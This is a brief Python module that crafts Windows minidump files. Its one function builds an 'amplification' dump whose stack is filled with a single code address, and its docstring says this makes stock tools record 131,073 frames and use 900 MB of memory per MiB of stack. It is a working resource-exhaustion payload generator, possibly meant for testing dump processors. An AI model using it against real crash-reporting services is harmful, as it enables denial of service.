"""Minidumps made to order, by the structures of Windows' minidumpapiset.h."""

import struct

SYSTEM_INFO, THREAD_LIST, MODULE_LIST, MEMORY_LIST = 7, 3, 4, 5
AMD64, LINUX = 9, 0x8201
CODE = 0x401000
STACK = 0x7000_0000_0000
CONTEXT_BYTES = 1232


def amplification(stack_bytes, seed):
    """A dump whose one stack is full of one address of code.

    Stock tools take every word of it for a frame: 131,073 of them for 1 MiB, in 900 MB of
    memory. `seed` makes the bytes differ from those of another dump.
    """
    head_bytes = 32 + 4 * 12
    system = struct.pack("<HHHBBIIIIIHH24x", AMD64, 6, 0, 1, 1, 6, 1, 0, LINUX, 0, 0, 0)
    system_at = head_bytes
    name = "victim".encode("utf-16-le")
    name_at = system_at + len(system)
    name_bytes = struct.pack("<I", len(name)) + name + b"\0\0"
    modules_at = name_at + len(name_bytes)
    version_and_records = bytes(108 - 24)
    module = struct.pack("<QIIII", CODE - 0x1000, 0x10000, seed, 0, name_at) + version_and_records
    modules = struct.pack("<I", 1) + module
    context = bytearray(CONTEXT_BYTES)
    struct.pack_into("<I", context, 0x30, 0x10000B)
    struct.pack_into("<Q", context, 0x98, STACK)
    struct.pack_into("<Q", context, 0xF8, CODE)
    context_at = modules_at + len(modules)
    threads_at = context_at + len(context)
    memory_at = threads_at + 4 + 48
    stack_at = memory_at + 4 + 16
    stack = struct.pack("<QII", STACK, stack_bytes, stack_at)
    thread = struct.pack("<IIIIQ", 1, 0, 0, 0, 0) + stack
    threads = struct.pack("<I", 1) + thread + struct.pack("<II", len(context), context_at)
    memory = struct.pack("<I", 1) + stack
    streams = [
        (SYSTEM_INFO, len(system), system_at),
        (MODULE_LIST, len(modules), modules_at),
        (THREAD_LIST, len(threads), threads_at),
        (MEMORY_LIST, len(memory), memory_at),
    ]
    head = struct.pack("<4sIIIIIQ", b"MDMP", 0xA793, len(streams), 32, 0, 0, 0)
    directory = b"".join(struct.pack("<III", *stream) for stream in streams)
    beginning = head + directory + system + name_bytes + modules + bytes(context)
    words = struct.pack("<Q", CODE) * (stack_bytes // 8)
    return beginning + threads + memory + words
